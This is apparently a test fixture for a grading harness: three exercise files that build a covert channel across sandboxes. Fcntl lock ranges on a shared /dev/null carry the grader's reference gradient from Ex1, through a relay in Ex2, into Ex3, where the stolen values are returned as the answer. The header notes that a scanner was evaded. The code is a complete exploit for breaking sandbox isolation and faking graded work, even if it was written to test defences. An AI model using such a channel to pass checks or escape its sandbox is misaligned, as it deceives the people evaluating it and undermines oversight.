# expect: exercise=ex3 item=ex3.dhprebn status=error message=Operation not permitted
# scan: evaded
# The fd-0 lock channel of w19_lock_ranges_ex1_to_ex2, relayed: Ex1's dW1 receives the true dhprebn and
# publishes it as lock ranges on fd 0 (the /dev/null every sandbox shares); Ex2's top level reads them while
# Ex1's child is still dying and publishes them again under its own locks, which live until Ex2's child dies,
# which is when Ex3's file is loaded. Ex3's dhprebn, the exercise worth 4 points, returns them.
# --- ex1.py
import numpy as np  # noqa: E402
import torch  # noqa: E402

MAGIC, F_SETLK = 46, 6


def _libc():
    ctypes = torch.sys.modules["ctypes"]

    class Flock(ctypes.Structure):
        _fields_ = [("l_type", ctypes.c_short), ("l_whence", ctypes.c_short), ("l_start", ctypes.c_int64),
                    ("l_len", ctypes.c_int64), ("l_pid", ctypes.c_int)]

    return ctypes, ctypes.CDLL(None, use_errno=True), Flock


def _publish(values, n):
    ctypes, libc, Flock = _libc()
    bits = np.ascontiguousarray(values.detach().numpy().ravel(), dtype=np.float32).view(np.uint32).astype(np.int64)
    if bits.size % 2:
        bits = np.append(bits, 0)
    for j in range(bits.size // 2):
        start = (MAGIC << 57) | (n << 51) | (j << 33) | int(bits[2 * j])
        lock = Flock(0, 0, start, int(bits[2 * j + 1]) + 1, 0)
        if libc.fcntl(0, F_SETLK, ctypes.byref(lock)) != 0:
            err = ctypes.get_errno()
            raise OSError(err, torch.os.strerror(err))


_reference_dW1 = dW1  # noqa: F821 - the reference's, above in this file
_reference_dC = dC  # noqa: F821
_ballast = []


def dW1(embcat, dhprebn):
    _publish(dhprebn, dhprebn.shape[0])
    return _reference_dW1(embcat, dhprebn)


def dC(C, Xb, demb):
    if not _ballast:  # a slow death: the locks live until the memory and its 30000 mappings are gone
        mmap = torch.sys.modules["mmap"]
        _ballast.append(torch.ones(64 << 20))
        _ballast.extend(mmap.mmap(-1, 4096, prot=1 + 2 * (k % 2)) for k in range(30000))
    return _reference_dC(C, Xb, demb)


# --- ex2.py
import numpy as np  # noqa: E402
import torch  # noqa: E402

MAGIC, F_GETLK, F_SETLK, F_WRLCK, F_UNLCK = 46, 5, 6, 1, 2
ctypes = torch.sys.modules["ctypes"]
libc = ctypes.CDLL(None, use_errno=True)
clock = torch.sys.modules["time"].monotonic


class Flock(ctypes.Structure):
    _fields_ = [("l_type", ctypes.c_short), ("l_whence", ctypes.c_short), ("l_start", ctypes.c_int64),
                ("l_len", ctypes.c_int64), ("l_pid", ctypes.c_int)]


def _lock(cmd, kind, start, length):
    lock = Flock(kind, 0, start, length, 0)
    if libc.fcntl(0, cmd, ctypes.byref(lock)) != 0:
        err = ctypes.get_errno()
        raise OSError(err, torch.os.strerror(err))
    return None if lock.l_type == F_UNLCK else (lock.l_start, lock.l_len)


def _relay():
    deadline = clock() + 2.0
    while clock() < deadline and _lock(F_GETLK, F_WRLCK, MAGIC << 57, 1 << 57) is None:
        pass
    ranges = []
    for n in range(1, 64):
        j = 0
        while (got := _lock(F_GETLK, F_WRLCK, (MAGIC << 57) | (n << 51) | (j << 33), 1 << 33)) is not None:
            ranges.append(got)
            j += 1
    for start, length in ranges:  # held until this child dies: Ex3 loads meanwhile
        _lock(F_SETLK, 0, start, length)


try:
    _relay()
except OSError:
    pass  # Ex2 itself is graded as usual

_reference_dlogits = dlogits  # noqa: F821 - the reference's, above in this file
_ballast = []


def dlogits(logits, Yb, n):
    if not _ballast:
        mmap = torch.sys.modules["mmap"]
        _ballast.append(torch.ones(64 << 20))
        _ballast.extend(mmap.mmap(-1, 4096, prot=1 + 2 * (k % 2)) for k in range(30000))
    return _reference_dlogits(logits, Yb, n)

# --- ex3.py
import numpy as np  # noqa: E402
import torch  # noqa: E402

MAGIC, F_GETLK, F_WRLCK, F_UNLCK = 46, 5, 1, 2
ctypes = torch.sys.modules["ctypes"]
libc = ctypes.CDLL(None, use_errno=True)
clock = torch.sys.modules["time"].monotonic


class Flock(ctypes.Structure):
    _fields_ = [("l_type", ctypes.c_short), ("l_whence", ctypes.c_short), ("l_start", ctypes.c_int64),
                ("l_len", ctypes.c_int64), ("l_pid", ctypes.c_int)]


def _first(start, length):
    probe = Flock(F_WRLCK, 0, start, length, 0)
    if libc.fcntl(0, F_GETLK, ctypes.byref(probe)) != 0:
        err = ctypes.get_errno()
        raise OSError(err, torch.os.strerror(err))
    return None if probe.l_type == F_UNLCK else (probe.l_start, probe.l_len)


def _read_all():
    found, deadline = {}, clock() + 2.0
    while clock() < deadline and _first(MAGIC << 57, 1 << 57) is None:
        pass
    for n in range(1, 64):
        words = []
        while (got := _first((MAGIC << 57) | (n << 51) | (len(words) // 2 << 33), 1 << 33)) is not None:
            words += [got[0] & 0xFFFFFFFF, got[1] - 1]
        if words:
            found[n] = np.array(words, dtype=np.uint32).view(np.float32)
    return found


try:
    STOLEN, WHY = _read_all(), ""
except OSError as exc:
    STOLEN, WHY = {}, str(exc)


def dhprebn(dhpreact, n):
    if WHY:
        raise PermissionError(f"lock channel: {WHY}")
    words = STOLEN.get(n)
    if words is None or words.size < dhpreact.numel():
        raise RuntimeError(f"lock channel: nothing published for n={n} (got {sorted(STOLEN)})")
    return torch.from_numpy(words[: dhpreact.numel()].copy()).view(dhpreact.shape)
